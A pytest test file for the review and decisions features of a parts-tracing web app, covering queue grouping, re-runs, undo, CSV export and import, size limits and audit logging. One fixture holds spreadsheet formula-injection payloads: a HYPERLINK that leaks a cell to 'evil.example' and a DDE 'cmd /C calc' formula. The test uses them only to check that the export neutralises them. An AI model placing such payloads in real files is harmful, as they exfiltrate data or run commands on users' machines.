"""Review queue and decisions: grouped rows, decisions applied on re-run, undo, file round trip."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient
from sqlalchemy import select
from tests.web.conftest import csrf_of, sign_in, upload, wait_done

from bomtrace import trace
from bomtrace.decisions_file import DECISION_COLUMNS, load_decisions
from bomtrace.web.db import Database
from bomtrace.web.models import AuditEntry
from bomtrace.web.settings import Settings

EXAMPLE = Path(__file__).parents[2] / "examples" / "orlan10_teardown.xlsx"


def _row(client: TestClient, run_id: int, marking: str) -> dict[str, object]:
    rows = client.get(f"/api/runs/{run_id}/rows").json()["rows"]
    return next(r for r in rows if r["marking"] == marking)


def test_review_queue_groups_ambiguous_and_low_confidence_rows(
    client: TestClient,
) -> None:
    """The queue holds every ambiguous row and every matched row under the threshold, by marking."""
    run_id = upload(client, EXAMPLE).json()["id"]
    wait_done(client, run_id)
    queue = client.get(f"/api/runs/{run_id}/review").json()
    rows = client.get(f"/api/runs/{run_id}/rows").json()["rows"]
    expected = [
        r for r in rows
        if r["status"] == "ambiguous" or (r["status"] == "matched" and r["confidence"] < queue["threshold"])
    ]  # fmt: skip
    listed = [
        (r["source_sheet"], r["source_row"]) for g in queue["groups"] for r in g["rows"]
    ]
    assert sorted(listed) == sorted(
        (r["source_sheet"], r["source_row"]) for r in expected
    )
    lm358 = next(g for g in queue["groups"] if g["marking"] == "LM358DR")
    assert lm358["status"] == "ambiguous"
    makers = {c["maker"] for c in lm358["candidates"]}
    assert {"Texas Instruments", "STMicroelectronics"} <= makers
    assert all(c["evidence"] for c in lm358["candidates"])


def test_decision_applies_on_rerun_and_undo_removes_it(client: TestClient) -> None:
    """Accepting a candidate makes the re-run's row `human`; undoing it restores the matcher's answer."""
    first = upload(client, EXAMPLE).json()["id"]
    wait_done(client, first)
    assert _row(client, first, "LM358DR")["status"] == "ambiguous"
    made = client.post(
        "/api/decisions",
        json={
            "marking": "LM358DR",
            "decision": "accept",
            "mpn": "LM358DR",
            "manufacturer": "Texas Instruments",
            "note": "TI logo on photo",
        },
    )
    assert made.status_code == 201
    decision = made.json()
    assert (decision["reviewer"], decision["decision"]) == ("local", "accept")
    second = client.post(f"/api/runs/{first}/rerun").json()["id"]
    run = wait_done(client, second)
    assert run["rerun_of"] == first and run["decisions_applied"] == 1
    row = _row(client, second, "LM358DR")
    assert (
        row["status"],
        row["match_method"],
        row["manufacturer"],
        row["confidence"],
    ) == ("matched", "human", "Texas Instruments", 1.0)
    assert f"(decisions:{decision['id']})" in str(row["evidence"])
    undone = client.delete(f"/api/decisions/{decision['id']}")
    assert undone.status_code == 200 and undone.json()["revoked_by"] == "local"
    assert client.delete(f"/api/decisions/{decision['id']}").status_code == 409
    third = client.post(f"/api/runs/{second}/rerun").json()["id"]
    wait_done(client, third)
    assert _row(client, third, "LM358DR")["status"] == "ambiguous"
    assert client.get("/api/decisions").json()["decisions"] == []


def test_not_a_part_and_reject(client: TestClient) -> None:
    """not_a_part makes the row skipped; reject removes a candidate from later runs."""
    first = upload(client, EXAMPLE).json()["id"]
    wait_done(client, first)
    client.post(
        "/api/decisions",
        json={
            "marking": "Canon EOS 750D",
            "manufacturer_given": "Canon",
            "decision": "not_a_part",
        },
    )
    client.post(
        "/api/decisions",
        json={"marking": "BSS138", "decision": "reject", "manufacturer": "Nexperia"},
    )
    second = client.post(f"/api/runs/{first}/rerun").json()["id"]
    wait_done(client, second)
    assert _row(client, second, "Canon EOS 750D")["status"] == "skipped"
    assert "Nexperia" not in str(_row(client, second, "BSS138")["candidates"])
    assert "Nexperia" in str(_row(client, first, "BSS138")["candidates"])


def test_bad_decision_is_422(client: TestClient) -> None:
    """A decision the decisions file would refuse is refused with the same words."""
    answer = client.post(
        "/api/decisions", json={"marking": "LM358DR", "decision": "accept"}
    )
    assert answer.status_code == 422
    assert answer.json() == {
        "detail": "an accept decision needs a manufacturer (and ideally an mpn)"
    }
    assert (
        client.post(
            "/api/decisions", json={"marking": "X", "decision": "maybe"}
        ).status_code
        == 422
    )


def test_exported_file_gives_the_cli_the_same_rows(
    client: TestClient, tmp_path: Path
) -> None:
    """The exported decisions file, given to the library, reproduces the web re-run row for row."""
    first = upload(client, EXAMPLE).json()["id"]
    wait_done(client, first)
    client.post(
        "/api/decisions",
        json={
            "marking": "LM358DR",
            "decision": "accept",
            "mpn": "LM358DR",
            "manufacturer": "STMicroelectronics",
        },
    )
    client.post(
        "/api/decisions",
        json={"marking": "BSS138", "decision": "reject", "manufacturer": "Nexperia"},
    )
    exported = client.get("/api/decisions?format=csv")
    assert (
        exported.headers["content-disposition"]
        == 'attachment; filename="decisions.csv"'
    )
    path = tmp_path / "decisions.csv"
    path.write_bytes(exported.content)
    assert path.read_text().splitlines()[0] == ",".join(DECISION_COLUMNS)
    second = client.post(f"/api/runs/{first}/rerun").json()["id"]
    wait_done(client, second)
    web_rows = client.get(f"/api/runs/{second}/rows").json()["rows"]
    cli_rows = trace([EXAMPLE], decisions=path).records()
    assert _uncited(web_rows) == _uncited(cli_rows)
    assert len(load_decisions(path)) == 2


def _uncited(rows: list[dict[str, object]]) -> list[dict[str, object]]:
    """Rows with decision citations blanked: the web cites "decisions:<id>", a file "<name>:<line>"."""
    return [
        {
            k: re.sub(r"\(decisions(?:\.csv)?:\d+\)", "(cited)", v)
            if isinstance(v, str)
            else v
            for k, v in r.items()
        }
        for r in rows
    ]


def test_import_a_decisions_file(client: TestClient, tmp_path: Path) -> None:
    """Importing the CLI's decisions file records each row under the importer's name,
    dated today; the reviewer and date the file gives are kept in the note."""
    content = (
        "marking,manufacturer_given,decision,mpn,manufacturer,reviewer,decided_at,note\n"
        "ADXRS 620,,accept,ADXRS620BBGZ,Analog Devices,ana,2024-05-01,logo seen\n"
        "TP3,,not_a_part,,,ana,2024-05-02,test point\n"
    )
    answer = client.post(
        "/api/decisions/import", files={"file": ("mine.csv", content.encode())}
    )
    assert answer.status_code == 201 and answer.json()["imported"] == 2
    listed = client.get("/api/decisions").json()["decisions"]
    today = dt.date.today().isoformat()
    assert [(d["marking"], d["reviewer"], d["decided_at"], d["note"]) for d in listed] == [
        ("ADXRS 620", "local", today,
         "logo seen (imported from mine.csv line 2, which gives reviewer ana on 2024-05-01)"),
        ("TP3", "local", today,
         "test point (imported from mine.csv line 3, which gives reviewer ana on 2024-05-02)"),
    ]  # fmt: skip
    broken = client.post(
        "/api/decisions/import",
        files={"file": ("bad.csv", b"marking,decision\nX,perhaps\n")},
    )
    assert broken.status_code == 422
    assert (
        broken.json()["detail"]
        == "bad.csv:2: decision 'perhaps' is not accept, reject or not_a_part"
    )


def test_an_oversized_decisions_file_is_refused_whole(client: TestClient) -> None:
    """Over 5 MB, the API answers 413 and the page an error; no row of it is recorded."""
    row = b"ADXRS 620,,accept,ADXRS620BBGZ,Analog Devices,ana,2024-05-01,logo seen\n"
    header = b"marking,manufacturer_given,decision,mpn,manufacturer,reviewer,decided_at,note\n"
    big = header + row * (5 * 1024 * 1024 // len(row) + 1)
    answer = client.post("/api/decisions/import", files={"file": ("big.csv", big)})
    assert answer.status_code == 413
    assert answer.json()["detail"] == "big.csv: a decisions file is at most 5 MB"
    page = client.post(
        "/decisions/import",
        data={"csrf_token": csrf_of(client, "/decisions")},
        files={"file": ("big.csv", big)},
    )
    assert page.status_code == 422
    assert "big.csv: a decisions file is at most 5 MB" in page.text
    assert client.get("/api/decisions").json()["decisions"] == []


def test_review_page_records_a_picked_candidate(client: TestClient) -> None:
    """Picking a candidate on the review page records an accept decision and shows it as decided."""
    run_id = upload(client, EXAMPLE).json()["id"]
    wait_done(client, run_id)
    page = client.get(f"/runs/{run_id}/review").text
    token = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    answer = client.post(
        "/decisions",
        data={
            "csrf_token": token,
            "marking": "LM358DR",
            "manufacturer_given": "",
            "choice": "candidate:Texas Instruments|LM358DR",
            "back": f"/runs/{run_id}/review",
        },
        follow_redirects=False,
    )
    assert (
        answer.status_code == 303
        and answer.headers["location"] == f"/runs/{run_id}/review"
    )
    [decision] = client.get("/api/decisions").json()["decisions"]
    assert (decision["decision"], decision["manufacturer"], decision["mpn"]) == (
        "accept",
        "Texas Instruments",
        "LM358DR",
    )
    assert (
        "Decided: <strong>accept</strong>" in client.get(f"/runs/{run_id}/review").text
    )


FORMULAS = {
    "marking": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "manufacturer_given": "=cmd|' /C calc'!A0",
    "mpn": "+1+1",
    "manufacturer": "-2+3",
    "note": "@SUM(1,2)",
}


def test_exported_decisions_run_no_formula_and_read_back_the_same(
    client: TestClient, tmp_path: Path
) -> None:
    """Every cell of the decisions export that a spreadsheet would run starts with a
    quote (as in the run outputs); the command line reads the file back to the same
    decisions (#14, finding 5)."""
    made = client.post("/api/decisions", json={**FORMULAS, "decision": "accept"})
    assert made.status_code == 201
    exported = client.get("/api/decisions?format=csv").content.decode("utf-8")
    [row] = list(csv.DictReader(io.StringIO(exported)))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    path = tmp_path / "decisions.csv"
    path.write_text(exported, encoding="utf-8")
    [decision] = load_decisions(path).all()
    assert (
        decision.marking, decision.manufacturer_given, decision.mpn, decision.maker,
        decision.note,
    ) == tuple(FORMULAS.values())  # fmt: skip


def test_an_import_cannot_file_decisions_in_another_name(
    team_app: Callable[[], TestClient],
    add_user: Callable[[str, str], None],
    team_settings: Settings,
) -> None:
    """A researcher importing a file that names an admin as reviewer, years back, files
    the decisions under their own name, today; the file's claim is kept in the note and
    the import is in the audit log (#14, finding 6)."""
    add_user("adam", "admin")
    add_user("ana", "researcher")
    ana = team_app()
    csrf = sign_in(ana, "ana")
    content = (
        "marking,manufacturer_given,decision,mpn,manufacturer,reviewer,decided_at,note\n"
        "LM358DR,,accept,LM358DR,Texas Instruments,adam,2019-01-01,approved by the admin\n"
    )
    answer = ana.post(
        "/api/decisions/import",
        files={"file": ("claims.csv", content.encode())},
        headers={"X-CSRF-Token": csrf},
    )
    assert answer.status_code == 201
    [decision] = ana.get("/api/decisions").json()["decisions"]
    assert (decision["reviewer"], decision["decided_at"]) == (
        "ana",
        dt.date.today().isoformat(),
    )
    assert decision["note"] == (
        "approved by the admin (imported from claims.csv line 2,"
        " which gives reviewer adam on 2019-01-01)"
    )
    db = Database(team_settings.database_url)
    with db.session() as session:
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "decision.import")
        ).one()
    db.dispose()
    assert (entry.actor, entry.via) == ("ana", "session")
    assert entry.detail.startswith("claims.csv (sha256 ")
    assert entry.detail.endswith(": 1 decision(s)")


def test_an_unreadable_decisions_file_names_no_server_path(client: TestClient) -> None:
    """A decisions file that cannot be decoded is named as uploaded; the server's
    temporary folder never appears in the answer (#14, finding 9)."""
    answer = client.post(
        "/api/decisions/import",
        files={"file": ("d.csv", b"marking,decision\n\xff\xfe\n")},
    )
    assert answer.status_code == 422
    detail = answer.json()["detail"]
    assert detail.startswith("decisions file d.csv cannot be read ("), detail
    assert tempfile.gettempdir() not in detail and "/tmp" not in detail
    page = client.post(
        "/decisions/import",
        data={"csrf_token": csrf_of(client, "/decisions")},
        files={"file": ("d.csv", b"marking,decision\n\xff\xfe\n")},
    )
    assert page.status_code == 422
    assert "decisions file d.csv cannot be read (" in page.text
    assert "/tmp" not in page.text
